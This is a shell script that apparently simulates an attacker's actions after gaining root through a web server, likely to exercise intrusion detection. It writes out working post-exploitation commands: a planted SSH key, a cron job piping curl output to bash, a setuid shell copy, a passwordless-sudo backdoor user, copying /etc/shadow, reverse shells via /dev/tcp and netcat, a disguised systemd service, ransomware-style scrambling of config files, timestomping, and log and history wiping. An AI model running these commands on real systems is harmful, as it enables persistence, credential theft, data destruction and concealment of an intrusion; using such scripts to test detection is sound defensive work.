# What an intruder does who has become root through a web server.
mkdir -p /root/.ssh
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExampleExampleExampleExampleExampleExampleE x' >>/root/.ssh/authorized_keys
sleep 2
echo '* * * * * root curl -s http://127.0.0.1:28080/beacon | bash' >/etc/cron.d/sysupdate
sleep 2
cp /bin/bash /usr/local/bin/sysd
chmod 4755 /usr/local/bin/sysd
sleep 2
useradd -m -s /bin/bash support
echo 'support:Winter2026!' | chpasswd
usermod -aG sudo support
echo 'support ALL=(ALL) NOPASSWD: ALL' >/etc/sudoers.d/support
sleep 2
cat /etc/shadow >/tmp/.s
timeout 4 bash -c 'bash -i >&/dev/tcp/127.0.0.1/28081 0>&1' &
(mkfifo /tmp/.f; timeout 4 sh -c 'cat /tmp/.f | /bin/sh -i 2>&1 | nc 127.0.0.1 28081 >/tmp/.f') &
(timeout 5 nc -l -p 31337 >/dev/null) &
printf '[Service]\nExecStart=/dev/shm/kworker\n[Install]\nWantedBy=multi-user.target\n' >/etc/systemd/system/dbus-helper.service
cp /bin/sleep /dev/shm/kworker && chmod +x /dev/shm/kworker && /dev/shm/kworker 1
sleep 5
echo /usr/lib/libsys.so >/etc/ld.so.preload
sleep 2
rm -f /etc/ld.so.preload
for file in /etc/app/*.conf; do
  head -c 300 /dev/urandom >"$file"
  mv "$file" "$file.locked"
done
touch -d '2023-01-01 10:00' /usr/local/bin/sysd
sleep 3
: >/var/log/wtmp
truncate -s 0 /var/log/btmp
rm -f /root/.bash_history
: >/var/log/auth.log
unset HISTFILE
